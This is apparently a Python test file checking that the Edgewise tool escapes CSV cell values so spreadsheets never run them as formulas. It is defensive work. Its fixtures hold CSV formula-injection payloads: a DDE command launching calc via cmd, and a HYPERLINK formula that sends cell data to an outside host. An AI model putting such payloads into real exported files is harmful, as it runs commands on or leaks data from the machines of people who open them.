"""No name in a CSV file is a formula for a spreadsheet; Edgewise reads the name as it was."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import Engine
from tests.command import edgewise
from tests.compile.estimators import decision_tree
from tests.dashboard.past import rooms, store
from tests.database.test_labels import teach

from edgewise.board.serial.log_file import GrowingLog
from edgewise.logs.formulas import as_text, from_text
from edgewise.logs.log import read_log
from edgewise.package.store import load_package

BEGINS = "=+-@\t\r"
CALL = "=cmd|'/C calc'!A0"
LINK = '@HYPERLINK("http://x/?"&A1)'
DRY, HUMID = '+SUM(A1:A9)*cmd|" /C calc"!A0', "-2+3;=A1"
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?")


def spreadsheet(text: str, delimiter: str = ",") -> list[list[str]]:
    """The cells below the header, as a spreadsheet takes them apart."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet would run, here or where semicolons separate the cells."""
    cells = [cell for mark in ",;" for row in spreadsheet(text, mark) for cell in row]
    return [cell for cell in cells if cell[:1] in [*BEGINS] and not NUMBER.fullmatch(cell)]


@given(st.text(st.sampled_from("'=+-@\t\r\n;a1\uff1d"), max_size=8))
@example("-5.5")
@example("+1e5")
@example("''=")
def test_every_name_comes_back(name: str) -> None:
    assert from_text(as_text(name)) == name
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["head"], [as_text(name)]])
    (cells,) = spreadsheet(text.getvalue())
    assert cells == [as_text(name)]
    assert not formulas(text.getvalue())


@pytest.mark.parametrize("number", ["-5.0", "+3", "-1", "21.5", "-1e-5"])
def test_numbers_stay_numbers(number: str) -> None:
    assert as_text(number) == number


def test_the_log_of_a_database(engine: Engine, db: str, tmp_path: Path) -> None:
    end_s = time.time()
    store(engine, [row | {"t": -row["t"]} for row in rooms(CALL, 20, end_s)])
    teach(engine, CALL, end_s - 600, end_s, LINK)
    out = tmp_path / "LOG.csv"
    assert edgewise("data", "export", "--db", db, "--out", out).returncode == 0
    text = out.read_text()
    assert not formulas(text) and "calc" in text and "HYPERLINK" in text
    log = read_log(out)
    assert set(log.node) == {CALL}
    assert log.label is not None and set(log.label) == {None, LINK}
    assert (log.t_dc < -100).all()


def test_a_recorded_log(tmp_path: Path) -> None:
    out = tmp_path / "LOG.csv"
    for first in (0, 3):  # a new file, then an existing one
        with GrowingLog(out, "status") as log:
            for i in range(first, first + 3):
                assert log.add(60 * i, CALL, -1.5, 40.0, LINK)
            assert not log.add(60 * first, CALL, 1.0, 40.0, LINK), "it knows its node"
            assert log.undo(60 * (first + 2)) == [LINK]
    assert not formulas(out.read_text())
    assert len(spreadsheet(out.read_text())) == 4
    rows = read_log(out)
    assert rows.label is not None
    assert {*rows.node, *rows.label} == {CALL, LINK}


def test_features_and_predictions(log_path: Path, tmp_path: Path) -> None:
    source, features = tmp_path / "LOG.csv", tmp_path / "features.csv"
    with log_path.open(newline="") as file:
        head, *rows = csv.reader(file)
    with source.open("w", newline="") as file:
        names = {"open": as_text(HUMID), "closed": as_text(DRY)}
        csv.writer(file).writerows(
            [head, *([time_s, as_text(CALL), *th, names[c]] for time_s, _, *th, c in rows)]
        )
    assert edgewise("data", "features", source, "--out", features).returncode == 0
    assert not formulas(features.read_text())
    # a classifier of one's own, fitted on that table as pandas reads it
    import pandas as pd
    from skops.io import dump

    table = pd.read_csv(features)
    x = table.drop(columns=["time", "node", "class"])
    dump(decision_tree(max_leaf_nodes=8).fit(x, table["class"]), tmp_path / "own.skops")
    result = edgewise("compile", tmp_path / "own.skops", "--log", source, "--out", tmp_path / "m")
    assert result.returncode == 0, result.stderr
    package = load_package(tmp_path / "m")
    assert set(package.classes) == {HUMID, DRY}
    assert package.info["accuracy"] > 0.9

    result = edgewise("predict", tmp_path / "m", source)
    assert result.returncode == 0, result.stderr
    assert not formulas(result.stdout)
    cells = spreadsheet(result.stdout)
    assert {from_text(node) for _, node, _, _ in cells} == {CALL}
    assert {from_text(cls) for _, _, cls, _ in cells} == {HUMID, DRY}
